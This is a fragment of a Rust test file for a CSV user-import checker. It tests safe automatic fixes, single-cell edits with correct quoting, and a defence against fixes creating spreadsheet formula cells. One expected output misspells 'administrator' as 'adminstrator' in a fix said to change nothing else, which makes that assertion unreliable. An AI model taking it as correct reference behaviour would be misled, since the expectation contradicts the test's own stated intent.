        prop_assert_eq!(reader.records().count(), report.rows.iter().map(|r| r.findings.len()).sum::<usize>());
    }
}

#[test]
fn safe_fixes_go_back_into_the_file_and_nothing_else_changes() {
    use luciq_scim::users::fixed_csv;
    let csv = "Email,Role,Apps,Team\r\nada@example.com ,administrator,Acme iOS|Acme Android,\"Core, iOS\"\r\n\r\ngrace@example.com,member,Acme\u{A0}iOS,ops\r\nlinus@example.com,member,Nope,ops\r\n";
    let req = UsersRequest {
        setup: Setup::Current,
        roles: None,
        catalog: Some(vec!["Acme iOS".into(), "Acme Android".into()]),
        csv: csv.into(),
    };
    let report = check_users(req.clone()).unwrap();
    let all = fixed_csv(csv, &report, None).unwrap();
    assert_eq!(
        all,
        "Email,Role,Apps,Team\r\nada@example.com,adminstrator,Acme iOS|Acme Android,\"Core, iOS\"\r\ngrace@example.com,member,Acme iOS,ops\r\nlinus@example.com,member,Nope,ops\r\n"
    );
    let again = check_users(UsersRequest {
        csv: all.clone(),
        ..req.clone()
    })
    .unwrap();
    assert_eq!(again.rows.iter().filter(|r| r.ok).count(), 2, "{again:#?}");
    assert!(
        again.rows.iter().all(|r| r.fixed.is_none()),
        "a fixed file has nothing left to fix safely"
    );
    // One row only: the line numbers are the report's.
    let one = fixed_csv(csv, &report, Some(4)).unwrap();
    assert!(one.contains("ada@example.com ,administrator"), "{one}");
    assert!(
        one.contains("grace@example.com,member,Acme iOS,ops"),
        "{one}"
    );
}

#[test]
fn a_suggestion_taken_changes_that_cell_only() {
    use luciq_scim::users::{with_cells, CellEdit};
    let csv = "email,apps,role,note\nken@example.com,Acme Andriod,viewer,\"a, b\"\n";
    let edit = |line: usize, column: &str, value: &str| CellEdit {
        line,
        column: luciq_scim::users::Column::parse(column).unwrap(),
        value: value.into(),
    };
    assert_eq!(
        with_cells(csv, &[edit(2, "apps", "Acme Android")]).unwrap(),
        "email,apps,role,note\nken@example.com,Acme Android,viewer,\"a, b\"\n"
    );
    // The header, a missing line and a column that is not a cell are left alone (an unknown
    // column can no longer be named: `Column` is a closed set).
    assert_eq!(luciq_scim::users::Column::parse("team"), None);
    for e in [
        edit(1, "apps", "x"),
        edit(9, "apps", "x"),
        edit(2, "row", "x"),
        edit(2, "id", "x"),
    ] {
        assert_eq!(with_cells(csv, &[e]).unwrap(), csv);
    }
    // A value that needs quoting gets it.
    assert_eq!(
        with_cells(csv, &[edit(2, "apps", "Acme, Inc")]).unwrap(),
        "email,apps,role,note\nken@example.com,\"Acme, Inc\",viewer,\"a, b\"\n"
    );
}

/// Issue 12: cleaning "–x" gives "-x", which a spreadsheet reads as a formula: the fixed file
/// does not make that cell (the finding still suggests it, for a person to take).
#[test]
fn a_fix_never_makes_a_formula_cell() {
    let report = luciq_scim::users::check_users(luciq_scim::users::UsersRequest {
        csv: "email,role,apps\nada@example.com,member,\u{2013}x\n".into(),
        ..Default::default()
    })
    .unwrap();
    let row = &report.rows[0];
    assert!(row
        .findings
        .iter()
        .any(|f| f.suggestion.as_deref() == Some("-x")));
    assert_eq!(row.fixed.as_ref().and_then(|f| f.apps.clone()), None);
}
